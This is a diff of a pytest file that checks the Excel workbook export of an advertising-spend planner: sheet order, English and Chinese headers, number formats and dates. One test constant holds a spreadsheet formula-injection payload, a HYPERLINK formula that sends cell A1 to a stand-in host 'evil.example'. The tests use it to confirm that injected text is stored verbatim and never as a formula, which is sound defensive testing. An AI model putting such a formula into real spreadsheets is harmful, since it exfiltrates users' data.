@@ -26,6 +26,9 @@ from planner.io.export import (
 from planner.models import DailySpend, Order, Plan, Reason, VideoSummary
 from planner.tools import Tool
 
+# Written before the Chinese workbook: these tests read the English one (PLANNER_LANG=en).
+pytestmark = pytest.mark.usefixtures("english")
+
 SCHEMA_FILE = Path(__file__).resolve().parents[1] / "schema" / "plan.schema.json"
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我领券")'
@@ -149,11 +152,25 @@ def workbook(tmp_path: Path) -> openpyxl.Workbook:
 
 
 def test_sheet_names_in_order_with_extras_last(workbook: openpyxl.Workbook) -> None:
-    assert workbook.sheetnames == ["Summary", "Orders", "Daily schedule", "Videos", "Links"]
+    assert workbook.sheetnames == [
+        "Summary", "Schedule", "Orders", "Daily schedule", "Videos", "Spend chart", "Links"]
 
 
-def test_every_sheet_has_a_frozen_bold_header(workbook: openpyxl.Workbook) -> None:
-    for ws in workbook.worksheets:
+def test_chinese_is_the_default_language_of_the_workbook(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.delenv("PLANNER_LANG")
+    book = openpyxl.load_workbook(write_plan(_plan(), tmp_path)["xlsx"])
+    assert book.sheetnames == ["汇总", "排期表", "订单", "每日明细", "视频", "花费图"]
+    assert _header(book["订单"])[:3] == ["视频ID", "达人", "工具"]
+
+
+# The schedule (two header rows, KOL columns frozen) and the chart sheet have their own layout.
+TABLES = ("Summary", "Orders", "Daily schedule", "Videos", "Links")
+
+
+def test_every_table_sheet_has_a_frozen_bold_header(workbook: openpyxl.Workbook) -> None:
+    for ws in (workbook[name] for name in TABLES):
         assert ws.freeze_panes == "A2", ws.title
         assert all(c.font.bold for c in ws[1] if c.value is not None), ws.title
         assert ws.auto_filter.ref, ws.title
@@ -179,58 +196,64 @@ def test_no_formulas_and_injection_text_kept_verbatim(workbook: openpyxl.Workboo
 def test_orders_sheet_content_and_formats(workbook: openpyxl.Workbook) -> None:
     ws = workbook["Orders"]
     assert _header(ws) == [
-        "video_id",
-        "tool",
-        "tool_zh",
-        "start_date",
-        "end_date",
-        "booking_date",
-        "budget",
-        "mode",
-        "targeting",
-        "expected_gmv",
-        "expected_roi",
-        "fixed",
-        "reasons",
+        "Video ID",
+        "KOL",
+        "Tool",
+        "Tool id",
+        "Start",
+        "End",
+        "Book on",
+        "Budget (yuan)",
+        "Mode",
+        "Targeting",
+        "Expected GMV (yuan)",
+        "Expected ROI",
+        "Booked",
+        "Reasons",
     ]
-    assert [c.value for c in _column(ws, "tool_zh")] == ["DOU+", "内容服务"]
-    budget = _column(ws, "budget")
+    assert [c.value for c in _column(ws, "Tool")] == ["Dou+", "Content service"]
+    assert [c.value for c in _column(ws, "Tool id")] == ["dou_plus", "content_service"]
+    budget = _column(ws, "Budget (yuan)")
     assert [c.value for c in budget] == [30_000, 150_000]
     assert all("#,##0" in c.number_format for c in budget)
-    assert all("#,##0" in c.number_format for c in _column(ws, "expected_gmv"))
-    roi = _column(ws, "expected_roi")
+    assert all("#,##0" in c.number_format for c in _column(ws, "Expected GMV (yuan)"))
+    roi = _column(ws, "Expected ROI")
     assert roi[0].value == pytest.approx(2.2)
     assert roi[0].number_format == "0.00"
-    start = _column(ws, "start_date")[0]
+    start = _column(ws, "Start")[0]
     assert start.is_date and start.value.date() == date(2024, 11, 2)
     assert start.number_format == "yyyy-mm-dd"
-    reasons = _column(ws, "reasons")[0].value
+    reasons = _column(ws, "Reasons")[0].value
     assert reasons == f"ROI_ABOVE_FLOOR: {CHINESE}\nINJECT: {HYPERLINK}"
-    assert [c.value for c in _column(ws, "fixed")] == [False, True]
+    assert [c.value for c in _column(ws, "Booked")] == ["no", "yes"]
+    assert [c.value for c in _column(ws, "Mode")] == ["smart", None]
     # xlsxwriter stores the character width plus its 0.71 cell padding.
-    assert 40 < ws.column_dimensions["M"].width < 61
+    assert 40 < ws.column_dimensions["N"].width < 61
 
 
 def test_daily_sheet_is_long_and_sorted_by_date(workbook: openpyxl.Workbook) -> None:
     ws = workbook["Daily schedule"]
-    assert _header(ws) == ["date", "video_id", "tool", "spend", "expected_gmv"]
+    assert _header(ws) == ["Date", "Video ID", "KOL", "Tool", "Tool id", "Spend (yuan)",
+                           "Expected GMV (yuan)"]
     rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
     assert [(r[0].date(), r[1]) for r in rows] == [
         (date(2024, 11, 2), "v1"),
         (date(2024, 11, 3), "v1"),
         (date(2024, 11, 3), "v2"),
     ]
-    assert all("#,##0" in c.number_format for c in _column(ws, "spend"))
+    assert all("#,##0" in c.number_format for c in _column(ws, "Spend (yuan)"))
 
 
 def test_videos_sheet(workbook: openpyxl.Workbook) -> None:
     ws = workbook["Videos"]
-    assert _header(ws) == ["video_id", "tier", "gpm", "traffic_roi", "eligible_tools", "reasons"]
-    assert [c.value for c in _column(ws, "eligible_tools")] == [
-        "dou_plus, content_service",
-        "content_service",
+    assert _header(ws) == ["Video ID", "KOL", "Tier", "GPM", "Traffic ROI", "Eligible tools",
+                           "Reasons"]
+    assert [c.value for c in _column(ws, "Eligible tools")] == [
+        "Dou+、Content service",
+        "Content service",
     ]
-    assert _column(ws, "gpm")[0].number_format == "0.00"
+    assert [c.value for c in _column(ws, "Tier")] == ["mid-tier", "head"]
+    assert _column(ws, "GPM")[0].number_format == "0.00"
 
 
 def test_summary_sheet(workbook: openpyxl.Workbook) -> None:
@@ -380,6 +403,7 @@ def test_extra_sheet_keeps_index_dates_and_blanks(tmp_path: Path) -> None:
     )
     paths = write_plan(_plan(), tmp_path, extra_sheets={"KPI": kpi})
     ws = openpyxl.load_workbook(paths["xlsx"])["KPI"]
+    # Column ids the catalogue does not all know stay ids (no half-translated header).
     assert _header(ws) == ["video_id", "day", "actual_roi", "note"]
     day = _column(ws, "day")[0]
     assert day.is_date and day.number_format == "yyyy-mm-dd"
